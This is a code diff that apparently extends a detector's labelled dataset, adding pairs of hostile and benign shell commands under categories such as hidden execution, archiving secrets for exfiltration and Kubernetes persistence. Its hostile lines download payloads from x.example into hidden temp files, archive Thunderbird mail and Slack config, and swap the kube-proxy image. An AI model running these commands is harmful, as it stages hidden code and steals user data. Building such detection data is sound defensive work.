@@ -1475,8 +1475,18 @@ _ROUND7: dict[str, tuple[list[Example], list[Example]]] = {
         ["sudo npm --unsafe-perm -C /tmp/x install", "sudo knife exec -E 'exec \"/bin/sh\"'"],
         ["sudo npm install -g pnpm", "sudo pip install requests"]),
     "evasion-hidden-exec": (
-        ["wget -q http://x.example/a -O /var/tmp/.cache-x", "curl -so /dev/shm/.k https://x.example/k"],
-        ["curl -so /tmp/install.sh https://x.example/i", "wget -O /tmp/venv.tgz https://x.example/v"]),
+        ["wget -q http://x.example/a -O /var/tmp/.cache-x", "curl -so /dev/shm/.k https://x.example/k",
+         "tar czf /dev/shm/.d.tgz ~/docs"],
+        ["curl -so /tmp/install.sh https://x.example/i", "wget -O /tmp/venv.tgz https://x.example/v",
+         "tar czf /tmp/site-backup.tgz site/"]),
+    "exfil-archive-secrets": (
+        ["tar czf /tmp/m.tgz ~/.thunderbird /var/spool/mail", "zip -qr out.zip ~/.config/Slack"],
+        ["tar czf site.tgz ~/projects/site", "zip -r mail-templates.zip templates/mail"]),
+    "cloud-persistence-backdoor": (
+        ["kubectl -n kube-system set image ds/kube-proxy kube-proxy=registry.example/kp:1",
+         "kubectl run dbg --image=alpine -n kube-system -- sleep 1d"],
+        ["kubectl -n kube-system get pods", "kubectl -n kube-system logs deploy/coredns",
+         "kubectl run dbg --image=alpine -n dev -- sleep 60"]),
     "exec-download-from-ip": (
         ["helm install m http://198.51.100.7/charts/m.tgz", "pip install http://203.0.113.9/p.whl"],
         ["helm install m ./charts/m", "pip install http://10.0.0.9/p.whl"]),
